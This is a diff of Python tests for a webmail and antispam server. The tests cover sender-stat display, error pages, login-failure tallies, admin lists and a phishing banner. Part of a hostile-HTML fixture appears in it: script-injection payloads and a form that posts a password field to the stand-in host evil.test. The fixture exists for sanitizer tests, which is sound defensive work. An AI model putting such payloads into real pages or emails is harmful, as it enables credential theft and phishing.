@@ -15,6 +15,9 @@ from tests.mailtools import letter, payload
 from tests.unit.web.conftest import PASSWORD, Site, make_site
 
 from pochta.antispam.shingles.registry import ShingleType
+from pochta.antispam.shingles.shingler import Shingler
+from pochta.server.web import webmail
+from pochta.types import Tally
 
 PHISHING = Path(__file__).parents[2] / "data" / "phishing" / "en01_paypal_confusable.eml"
 
@@ -253,9 +256,8 @@ def test_spam_and_not_spam_move_the_letter_and_feed_the_counters(site: Site) -> 
     r = c.post(f"/webmail/letters/{letter_id}/spam", data={"csrf": token})
     assert r.status_code == 200 and "Moved to Spam" in r.text
     assert state(site, letter_id)[0] == "Spam"
-    assert 'data-kind="complaint"><b>1</b>' in r.text  # the sender's counters, on the page
     r = c.post(f"/webmail/letters/{letter_id}/not-spam", data={"csrf": token})
-    assert "Moved to Inbox" in r.text and 'data-kind="unspam"><b>1</b>' in r.text
+    assert "Moved to Inbox" in r.text
     assert state(site, letter_id)[0] == "Inbox"
     shingler = site.pochta.shingles
     (from_,) = [s for s in shingler.shingles(raw) if s.type == ShingleType.FROM_ADDRESS]
@@ -272,6 +274,47 @@ def test_spam_and_not_spam_move_the_letter_and_feed_the_counters(site: Site) -> 
     r = c.post(f"/webmail/letters/{letter_id}/delete", data={"csrf": token})
     assert r.status_code == 200 and "The letter was deleted." in r.text
     assert c.get(f"/webmail/letters/{letter_id}").status_code == 404
+
+
+def sender_stats(page: str) -> dict[str, tuple[str, str, str]]:
+    """The letter page's lines about its sender: kind -> (say, percent, text)."""
+    found = LexborHTMLParser(page).css("#sender-stats li")
+    return {
+        li.attributes["data-kind"] or "": (
+            li.attributes["data-say"] or "",
+            li.attributes["data-percent"] or "",
+            li.text(),
+        )
+        for li in found
+    }
+
+
+def test_the_letter_page_tells_shares_of_the_senders_mail_never_what_others_did(
+    site: Site,
+) -> None:
+    raw = letter(sender="News <news@bulk.example>", subject="Weekly")
+    (letter_id,) = site.deliver(raw, "alice@example.org")
+    shingler = site.pochta.shingles
+    (from_,) = [s for s in shingler.shingles(raw) if s.type == ShingleType.FROM_ADDRESS]
+    c = site.as_user(site.login("alice@example.org"))
+    shingler.update([from_.ref], "ham", 14)
+    shingler.update([from_.ref], "spam", 5)
+    shingler.update([from_.ref], "read", 19)  # how often others opened this sender's mail
+    shingler.update([from_.ref], "complaint", 1)
+    page = c.get(f"/webmail/letters/{letter_id}").text
+    assert sender_stats(page) == {}  # 19 letters: too few to say anything of them
+    shingler.update([from_.ref], "ham", 11)  # 30 letters, 5 of them spam, 1 complaint
+    shingler.update([from_.ref], "unspam", 2)
+    page = c.get(f"/webmail/letters/{letter_id}").text
+    stats = sender_stats(page)
+    assert stats.keys() == {"spam", "complaint"}  # never opened, never "not spam" counts
+    assert stats["spam"][:2] == ("about", "20") and "about 20 %" in stats["spam"][2]
+    assert stats["complaint"][:2] == ("under", "10") and "under 10 %" in stats["complaint"][2]
+    text = LexborHTMLParser(page).css_first("#sender-stats").text()
+    assert "opened" not in text and set(re.findall(r"\d+", text)) == {"14", "20", "10"}
+    shingler.update([from_.ref], "complaint", 8)  # 9 of 30
+    again = sender_stats(c.get(f"/webmail/letters/{letter_id}").text)
+    assert again["complaint"][:2] == ("about", "30")
 
 
 def test_an_attachment_downloads_byte_exactly_and_is_never_rendered(site: Site) -> None:
@@ -298,6 +341,68 @@ width: expression(alert(3))">hello</p><img src="http://evil.test/pixel.gif" oner
 <iframe src="http://evil.test/frame"></iframe><form action="http://evil.test/f">
 <input name="password"></form><object data="http://evil.test/o"></object>
 <table background="http://evil.test/t.png"><tr><td>cell</td></tr></table></body></html>"""
+
+
+def test_an_error_page_looks_the_session_up_once(
+    site: Site, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    box = site.pochta.mailbox
+    c = site.as_user(site.login("bob@example.org"))
+    calls: list[str] = []
+    real = box.authenticate
+
+    def counted(token: str) -> int:
+        calls.append(token)
+        return real(token)
+
+    monkeypatch.setattr(box, "authenticate", counted)
+    for path, status in (("/admin/storage", 403), ("/webmail/letters/999999", 404)):
+        calls.clear()
+        r = c.get(path)
+        assert r.status_code == status and "<h1>" in r.text and len(calls) == 1, (path, calls)
+    calls.clear()
+    r = c.post("/webmail/letters/999999/delete", data={"csrf": "0" * 64})
+    assert r.status_code == 403 and len(calls) == 1
+
+
+def test_any_unexpected_error_is_the_html_500_page_logged_once(
+    site: Site, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
+) -> None:
+    box = site.pochta.mailbox
+    c = site.as_user(site.login("alice@example.org"))
+
+    def broken(*args: object, **kwargs: object) -> None:
+        raise RuntimeError("the bug's own words /secret/path")
+
+    for where in ("folders", "authenticate"):  # in the page, and in who is looking
+        with monkeypatch.context() as m:
+            m.setattr(box, where, broken)
+            caplog.clear()
+            r = c.get("/webmail")
+        assert r.status_code == 500 and r.headers["content-type"].startswith("text/html"), where
+        assert "Something went wrong" in r.text and "could not answer" in r.text
+        assert "the bug's own words" not in r.text and "Traceback" not in r.text
+        assert "content-security-policy" in r.headers
+        logged = [rec for rec in caplog.records if rec.exc_info is not None]
+        assert len(logged) == 1 and "RuntimeError" in caplog.text, where
+
+
+def test_the_letter_page_neither_sanitizes_nor_extracts_every_shingle(
+    site: Site, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """The page only counts the remote images (the frame's request sanitizes) and reads only
+    the From address's counters (no body words, links, attachments' shingles)."""
+    (letter_id,) = site.deliver(letter(html=HOSTILE), "alice@example.org")
+    c = site.as_user(site.login("alice@example.org"))
+
+    def not_here(*args: object, **kwargs: object) -> None:
+        raise AssertionError("not on the letter page")
+
+    monkeypatch.setattr(webmail, "sanitize", not_here)
+    monkeypatch.setattr(Shingler, "shingles", not_here)
+    page = c.get(f"/webmail/letters/{letter_id}")
+    assert page.status_code == 200 and "1 remote image(s) blocked" in page.text
+    assert c.get(f"/webmail/letters/{letter_id}?images=1").status_code == 200
 
 
 def test_hostile_html_reaches_the_frame_sanitized(site: Site) -> None:
@@ -389,6 +494,41 @@ def test_bad_input_gets_a_clear_page_never_a_500(site: Site) -> None:
     assert big.status_code == 413  # the login body bound of the API (http.max_login_body)
 
 
+def test_a_failed_login_keeps_the_account_only_when_it_is_a_user(fresh_site: Site) -> None:
+    site = fresh_site
+    c = site.as_user({})
+    token = site.csrf({}, "/webmail/login")
+    pasted = "Tr0ub4dor&3-my-real-password"  # typed into the e-mail field
+    for email in (pasted, "nobody@example.org", "Bob@Example.org"):
+        r = c.post("/webmail/login", data={"email": email, "password": "wrong!", "csrf": token})
+        assert r.status_code == 401
+    site.pochta.history.flush()
+    store = site.pochta.history.store
+    assert [(t.name, t.n) for t in store.tallies("login_account", 0)] == [("bob@example.org", 1)]
+    assert [(t.name, t.n) for t in store.tallies("login_ip", 0)] == [("testclient", 3)]
+    logins = site.as_user(site.login("root@example.org")).get("/admin/logins").text
+    assert "bob@example.org" in logins and "testclient" in logins
+    assert pasted not in logins and "nobody@example.org" not in logins
+
+
+def test_admin_top_lists_show_the_newest_under_many_older_cells(fresh_site: Site) -> None:
+    site = fresh_site
+    store = site.pochta.history.store
+    old = int(time.time() // 3600) - 14 * 24 + 2  # two weeks ago, still within the window
+    store.add_tallies([Tally(old, "complaint", f"8:{i:016x}:old {i}", 1) for i in range(100_001)])
+    store.add_tallies(
+        [Tally(old, "login_ip", f"198.51.{i // 256}.{i % 256}", 1) for i in range(100_001)]
+    )
+    site.pochta.history.feedback("complaint", [(14, 0xABC, "newest@spammer.example")])
+    site.pochta.history.feedback("complaint", [(14, 0xABC, "newest@spammer.example")])
+    site.pochta.history.login_failed("203.0.113.77", None)
+    site.pochta.history.login_failed("203.0.113.77", None)
+    site.pochta.history.flush()
+    c = site.as_user(site.login("root@example.org"))
+    assert "newest@spammer.example" in c.get("/admin/verdicts").text
+    assert 'data-subject="203.0.113.77"' in c.get("/admin/logins").text
+
+
 def test_admin_storage_verdicts_logins_and_audits(site: Site) -> None:
     shared = payload(3, 50_000)
     for n in range(3):
@@ -469,9 +609,10 @@ def test_the_banner_needs_a_sign_with_points_and_then_shows_every_sign(site: Sit
         subject="Your account has been suspended",
         text="Dear customer, verify your account within 24 hours or it will be closed.",
     )
-    quiet, loud = site.deliver(plain, "alice@example.org")[0], site.deliver(
-        lure, "alice@example.org"
-    )[0]
+    quiet, loud = (
+        site.deliver(plain, "alice@example.org")[0],
+        site.deliver(lure, "alice@example.org")[0],
+    )
     c = site.as_user(site.login("alice@example.org"))
     page = c.get(f"/webmail/letters/{quiet}").text
     assert 'id="phishing-banner"' not in page
